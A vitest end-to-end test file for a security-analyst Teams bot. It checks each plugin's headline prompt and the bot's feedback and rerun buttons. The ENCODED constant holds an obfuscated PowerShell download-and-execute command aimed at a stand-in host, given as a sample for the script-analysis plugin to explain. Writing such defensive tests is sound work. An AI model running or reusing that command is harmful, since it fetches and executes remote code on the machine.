/**
 * Issue 7's "done when": every plugin's headline prompt answered through the real Agents Playground — the
 * Teams client `npm start` opens — against a real Ward on the demo tenant. Messages go in the way the
 * Playground's web client sends them and answers are read from the stream it renders from, so these are the
 * cards an analyst sees. One click (feedback) goes back through the Playground's invoke path.
 * Skipped, with a message, when the Playground is not installed.
 */
import { existsSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type RunningPlayground, startPlayground } from '../../../src/playground/start-playground.js';
import { cardIn, connectPlayground, type PlaygroundClient } from '../../support/playground-client.js';
import { cardText, executeActions, startWardHarness, type WardHarness } from '../../support/ward-harness.js';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..');
const installed = existsSync(join(root, 'node_modules', '.bin', 'agentsplayground'));
if (!installed)
  console.warn('Skipping the Playground headline prompts: the Agents Playground is not installed.');

const ENCODED =
  'powershell.exe -NoP -W Hidden -EncodedCommand JABQAHIAbwBnAHIAZQBzAHMAUAByAGUAZgBlAHIAZQBuAGMAZQA9ACcAUwBpAGwAZQBuAHQAbAB5AEMAbwBuAHQAaQBuAHUAZQAnADsAJAB3AGMAPQBOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAA7ACQAdwBjAC4ASABlAGEAZABlAHIAcwAuAEEAZABkACgAJwBVAHMAZQByAC0AQQBnAGUAbgB0ACcALAAnAE0AbwB6AGkAbABsAGEALwA1AC4AMAAnACkAOwBJAEUAWAAgACQAdwBjAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AbQBzAGYAdAAtAHUAcABkAGEAdABlAC0AYwBkAG4ALgBlAHgAYQBtAHAAbABlAC8AdwB1AHAAZAAuAHAAcwAxACcAKQA=';

/** Each plugin's headline prompt, as an analyst types it in the incident channel, and what the card must show. */
const HEADLINES: { plugin: string; ask: string; expect: RegExp[] }[] = [
  { plugin: 'entra', ask: 'is adele.vance@contoso.com compromised?', expect: [/Adele Vance/, /High risk/i] },
  {
    plugin: 'defender-xdr',
    ask: 'summarise incident 4211',
    expect: [/Incident 4211/, /T1\d{3}/, /DESKTOP-ADELE01/],
  },
  { plugin: 'defender-xdr (linked channel)', ask: "what's new?", expect: [/4211/] },
  {
    plugin: 'sentinel',
    ask: 'show failed sign-ins by IP in the last 24 hours',
    expect: [/SigninLogs/, /IPAddress/, /Password spray/i],
  },
  {
    plugin: 'defender-xdr (advanced hunting)',
    ask: 'advanced hunting for encoded powershell on devices last 7 days',
    expect: [/DeviceProcessEvents/, /Defender XDR/],
  },
  { plugin: 'servicenow', ask: "what's the status of INC0010030?", expect: [/INC0010030/, /Adele Vance/] },
  {
    plugin: 'custom plugin (contoso-hunting.yaml)',
    ask: 'show legacy auth sign-ins',
    expect: [/SigninLogs/, /ClientAppUsed/],
  },
  { plugin: 'promptbook from a file', ask: 'run morning-triage', expect: [/^Morning triage/, /^Cloud: /m] },
  { plugin: 'intune', ask: "is Diego's laptop compliant?", expect: [/DESKTOP-DIEGO01/, /compliant/i] },
  {
    plugin: 'defender-cloud',
    ask: 'show critical risks for publicly exposed resources',
    expect: [/web-prod-01/, /Secure score/i, /Attack path/i],
  },
  {
    plugin: 'threat-intel (CVE)',
    ask: 'what do we know about CVE-2024-3400?',
    expect: [/CVE-2024-3400/, /EPSS/],
  },
  {
    plugin: 'threat-intel (IP)',
    ask: 'check 185.220.101.4',
    expect: [/185\.220\.101\.4/, /malicious|suspicious/i],
  },
  {
    plugin: 'script-analysis',
    ask: `what does this do? ${ENCODED}`,
    expect: [/msft-update-cdn\.example/, /IEX|Invoke-Expression/],
  },
  {
    plugin: 'identity posture',
    ask: 'review our conditional access policies',
    expect: [/Conditional Access/, /Lynne Robbins/],
  },
  { plugin: 'sign-in failure', ask: "why can't megan sign in?", expect: [/Megan Bowen/, /sign-in/i] },
  {
    plugin: 'promptbook',
    ask: 'run investigate-user adele.vance@contoso.com',
    expect: [/Investigate user: Adele Vance/, /^Incidents: /m],
  },
];

async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

describe.skipIf(!installed)('headline prompts in the Agents Playground', () => {
  let ward: WardHarness;
  let playground: RunningPlayground;
  let client: PlaygroundClient;
  let channel: string;

  beforeAll(async () => {
    ward = await startWardHarness({ CUSTOM_PLUGINS_DIR: 'plugins/custom' });
    playground = await startPlayground({
      botEndpoint: `${ward.url}/api/messages`,
      port: await freePort(),
      cwd: root,
      log: { info() {}, warn() {}, debug() {} },
    });
    client = await connectPlayground(playground.url);
    const incident = client.config.teams
      .flatMap((team) => team.channels)
      .find((candidate) => /4211/.test(candidate.name));
    if (!incident) throw new Error('the Playground config has no incident-4211 channel');
    channel = incident.id;
  }, 60_000);

  afterAll(async () => {
    client?.close();
    await playground?.stop();
    await ward?.close();
  });

  it.each(HEADLINES)('$plugin: "$ask"', async ({ ask, expect: patterns }) => {
    const { card } = await client.ask(channel, ask);
    const text = cardText(card);
    for (const pattern of patterns) expect(text).toMatch(pattern);
    expect(text).not.toMatch(/Something went wrong/);
  });

  it('runs a hunt again from its "Run again" button in the Playground: the card stays, a fresh answer follows', async () => {
    const { conversationId, messageId, card } = await client.ask(
      channel,
      'find failed sign-ins by IP this week',
    );
    const rerun = executeActions(card).find((action) => action.verb === 'ward.rerun');
    expect(rerun?.title).toBe('Run again');
    const response = (await client.invoke(conversationId, messageId, 'ward.rerun', rerun!.data)) as {
      value?: unknown;
    };
    expect(cardText(response.value)).toMatch(/Running again for Patti Fernandez/);
    const fresh = await client.waitFor(
      conversationId,
      (message) => message.messageId !== messageId && /Failed sign-ins by IP/.test(cardText(cardIn(message))),
    );
    expect(executeActions(cardIn(fresh)).find((action) => action.verb === 'ward.rerun')?.data).not.toEqual(
      rerun!.data,
    );
  });

  it('records a "Looks right" click made in the Playground and updates the card', async () => {
    const { conversationId, messageId, card } = await client.ask(
      channel,
      'is adele.vance@contoso.com compromised?',
    );
    const looksRight = executeActions(card).find(
      (action) => action.verb === 'ward.feedback' && /looks right/i.test(action.title),
    );
    expect(looksRight).toBeDefined();
    const response = (await client.invoke(conversationId, messageId, 'ward.feedback', looksRight!.data)) as {
      type?: string;
      value?: unknown;
    };
    expect(response.type).toBe('application/vnd.microsoft.card.adaptive');
    expect(cardText(response.value)).toMatch(/Thanks Patti Fernandez — recorded “Looks right”/);
  });
});
